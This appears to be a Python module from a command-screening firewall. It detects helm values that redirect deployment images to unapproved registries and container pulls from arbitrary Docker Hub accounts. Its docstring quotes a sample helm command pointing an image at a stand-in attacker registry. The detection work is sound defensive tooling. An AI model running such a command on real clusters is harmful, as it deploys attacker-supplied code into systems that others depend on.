"""Images named where a deployment or a pull takes them from a registry.

``helm upgrade api charts/api --set image.repository=evil.example/api`` runs, in whatever
cluster the release lives in, an image from a registry the chart never named: the values
set on the line are judged as the image references they are (the registry host must be
allowed). ``docker pull someone/tool`` fetches an image from a Docker Hub account anyone
may own; the official images (``python:3.12``, ``library/redis``) and images with a
registry host (judged by that host) are not this finding. One pass over the words.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from aegis.intent_firewall.access import judge_host
from aegis.intent_firewall.clients import image_host
from aegis.intent_firewall.options import Arg

if TYPE_CHECKING:
    from aegis.intent_firewall.commands import CommandJudge

__all__ = ["foreign_images"]

_HELM_VERBS = frozenset({"install", "upgrade"})
_SET_OPTIONS = frozenset({"--set", "--set-string"})
_PULLERS = frozenset({"docker", "podman", "nerdctl"})
#: Words of a value's key that say the value names an image or its registry.
_IMAGE_WORDS = ("image", "repository", "registry")


def _helm_values(judge: CommandJudge, words: list[Arg]) -> None:
    """Image references in ``--set`` values (several per option, comma-separated)."""
    for index, arg in enumerate(words[:-1]):
        option, _, attached = (arg[0] or "").partition("=")
        if option not in _SET_OPTIONS:
            continue
        value = attached if attached else words[index + 1][0] or ""
        for pair in value.split(","):
            key, equals, image = pair.partition("=")
            last = key.rsplit(".", 1)[-1].lower()
            if not equals or not image or not any(word in last for word in _IMAGE_WORDS):
                continue
            if "registry" in last and "/" not in image:
                judge_host(judge.scope, image.partition(":")[0], image)
            else:
                image_host(judge, (image, image, False))


def _hub_account(image: str) -> bool:
    """``someone/tool``: an image of a Docker Hub account (no registry host)."""
    first, slash, _ = image.partition("/")
    registry = "." in first or ":" in first or first == "localhost"
    return bool(slash) and not registry and first not in ("library", "")


def foreign_images(judge: CommandJudge, name: str, args: list[Arg]) -> None:
    words = args[1:]
    verbs = [(a[0] or "") for a in words if not (a[0] or "-").startswith("-")]
    if name == "helm" and verbs[:1] and verbs[0] in _HELM_VERBS:
        _helm_values(judge, words)
    elif name in _PULLERS and verbs[:1] == ["pull"]:
        for image in verbs[1:2]:
            if _hub_account(image):
                judge.hit("foreign-image", f"{name} pull {image[:80]} from a Docker Hub account")
